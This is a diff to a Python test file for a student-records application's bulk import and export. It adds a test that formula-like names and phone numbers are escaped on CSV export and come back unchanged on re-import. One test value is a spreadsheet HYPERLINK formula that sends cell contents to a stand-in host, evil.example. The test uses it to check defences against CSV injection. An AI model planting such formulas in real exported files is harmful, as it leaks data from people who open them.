@@ -1,4 +1,5 @@
 """Bulk import and export: all rows or none, every error named, re-import changes nothing."""
+import csv
 import io
 
 import pytest
@@ -313,3 +314,28 @@ def test_the_import_is_the_callers_transaction(app):
     db.session.rollback()
     assert _counts() == (0, 0, 0, 0, 0)
     assert db.session.scalar(sa.select(sa.func.count(AuditEntry.id))) == 0
+
+
+FORMULA_LIKE = ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"details\")", "+86 138 0013 8000", "-1",
+                "@SUM(A1)", "'=already quoted", "''+two quotes", "'plain", "#N/A"]
+
+
+@pytest.mark.backends("sqlite", "postgresql")
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_formula_like_names_and_phones_survive_export_and_import_unchanged(rooms, file_format):
+    _import("students", STUDENTS_CSV)
+    for number, text in zip(("2024001", "2024002", "2024003"), FORMULA_LIKE[:3]):
+        db.session.scalar(sa.select(Student).where(Student.student_number == number)).name = text
+    db.session.scalar(sa.select(Student).where(Student.student_number == "2024002")).phone = "+86 138 0013 8000"
+    for number, text in enumerate(FORMULA_LIKE[3:], start=2024101):
+        db.session.add(Student(student_number=str(number), name=text, gender=Gender.MALE, phone=text))
+    db.session.commit()
+    before = {s.student_number: (s.name, s.phone) for s in db.session.scalars(sa.select(Student))}
+    data = exporting.export("students", file_format)
+    if file_format == "csv":
+        first_student = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
+        assert first_student[1] == "'" + FORMULA_LIKE[0]
+    report = import_file("students", f"students.{file_format}", data)
+    db.session.commit()
+    assert report.created == report.updated == 0
+    assert {s.student_number: (s.name, s.phone) for s in db.session.scalars(sa.select(Student))} == before
